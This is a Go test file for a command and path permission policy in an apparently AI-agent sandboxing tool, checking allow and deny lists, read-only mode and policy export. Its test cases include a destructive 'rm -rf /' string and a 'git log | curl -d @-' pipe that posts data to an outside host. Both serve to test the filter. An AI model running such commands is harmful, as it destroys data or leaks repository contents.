package permission

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentdock/agentdock/pkg/types"
)

func TestDecidePaths(t *testing.T) {
	tests := []struct {
		name   string
		policy Policy
		path   string
		access Access
		want   bool
	}{
		{
			name:   "empty lists allow read",
			policy: Policy{Sandbox: types.SandboxWorkspaceWrite},
			path:   "/ws/src/main.go",
			access: AccessRead,
			want:   true,
		},
		{
			name:   "empty lists allow write",
			policy: Policy{Sandbox: types.SandboxWorkspaceWrite},
			path:   "/ws/src/main.go",
			access: AccessWrite,
			want:   true,
		},
		{
			name: "deny prefix wins over allow prefix",
			policy: Policy{
				Sandbox:          types.SandboxWorkspaceWrite,
				AllowedReadPaths: []string{"/ws"},
				DeniedReadPaths:  []string{"/ws/secrets"},
			},
			path:   "/ws/secrets/key.pem",
			access: AccessRead,
			want:   false,
		},
		{
			name: "allow list restricts when non-empty",
			policy: Policy{
				Sandbox:          types.SandboxWorkspaceWrite,
				AllowedReadPaths: []string{"/ws/src"},
			},
			path:   "/ws/docs/readme.md",
			access: AccessRead,
			want:   false,
		},
		{
			name: "allow prefix matches",
			policy: Policy{
				Sandbox:           types.SandboxWorkspaceWrite,
				AllowedWritePaths: []string{"/ws/src"},
			},
			path:   "/ws/src/main.go",
			access: AccessWrite,
			want:   true,
		},
		{
			name:   "read-only sandbox denies writes unconditionally",
			policy: Policy{Sandbox: types.SandboxReadOnly},
			path:   "/ws/src/main.go",
			access: AccessWrite,
			want:   false,
		},
		{
			name:   "read-only sandbox still allows reads",
			policy: Policy{Sandbox: types.SandboxReadOnly},
			path:   "/ws/src/main.go",
			access: AccessRead,
			want:   true,
		},
		{
			name: "mixed separators match deny prefix",
			policy: Policy{
				Sandbox:          types.SandboxWorkspaceWrite,
				DeniedWritePaths: []string{"/ws/vendor"},
			},
			path:   `/ws\vendor\lib.go`,
			access: AccessWrite,
			want:   false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, tt.policy.Decide(tt.path, tt.access))
		})
	}
}

func TestReadOnlyForcesVerifyFirst(t *testing.T) {
	p := NewPolicy(types.SandboxReadOnly, types.PermissionProceedAlways, nil)
	assert.Equal(t, types.PermissionVerifyFirst, p.Mode)

	p = NewPolicy(types.SandboxWorkspaceWrite, types.PermissionProceedAlways, nil)
	assert.Equal(t, types.PermissionProceedAlways, p.Mode)
}

func TestDecideCommand(t *testing.T) {
	tests := []struct {
		name    string
		policy  Policy
		command string
		want    bool
	}{
		{
			name:    "empty allow list allows everything",
			policy:  Policy{Sandbox: types.SandboxWorkspaceWrite},
			command: "rm -rf /",
			want:    true,
		},
		{
			name:    "read-only denies everything",
			policy:  Policy{Sandbox: types.SandboxReadOnly, AllowedCommands: []string{"ls"}},
			command: "ls",
			want:    false,
		},
		{
			name: "allowed prefix",
			policy: Policy{
				Sandbox:         types.SandboxWorkspaceWrite,
				AllowedCommands: []string{"git ", "ls"},
			},
			command: "git status",
			want:    true,
		},
		{
			name: "disallowed command",
			policy: Policy{
				Sandbox:         types.SandboxWorkspaceWrite,
				AllowedCommands: []string{"git "},
			},
			command: "curl http://example.com",
			want:    false,
		},
		{
			name: "every sub-command of a pipe must pass",
			policy: Policy{
				Sandbox:         types.SandboxWorkspaceWrite,
				AllowedCommands: []string{"git "},
			},
			command: "git log | curl -d @- http://example.com",
			want:    false,
		},
		{
			name: "compound command with all allowed parts",
			policy: Policy{
				Sandbox:         types.SandboxWorkspaceWrite,
				AllowedCommands: []string{"git ", "ls"},
			},
			command: "git fetch && ls -la",
			want:    true,
		},
		{
			name: "quoted arguments are flattened before matching",
			policy: Policy{
				Sandbox:         types.SandboxWorkspaceWrite,
				AllowedCommands: []string{"git commit"},
			},
			command: `git commit -m "a message"`,
			want:    true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, tt.policy.DecideCommand(tt.command))
		})
	}
}

func TestExport(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, ".agentdock", ExportFileName)

	p := NewPolicy(types.SandboxWorkspaceWrite, types.PermissionProceedAlways, &types.PermissionConfig{
		AllowedCommands: []string{"git "},
	})
	require.NoError(t, p.Export(dir))
	_, err := os.Stat(path)
	require.NoError(t, err)

	// An empty policy removes the file to restore default-allow behavior.
	empty := NewPolicy(types.SandboxWorkspaceWrite, types.PermissionProceedAlways, nil)
	require.NoError(t, empty.Export(dir))
	_, err = os.Stat(path)
	assert.True(t, os.IsNotExist(err))

	// Removing an already-absent file is not an error.
	require.NoError(t, empty.Export(dir))
}
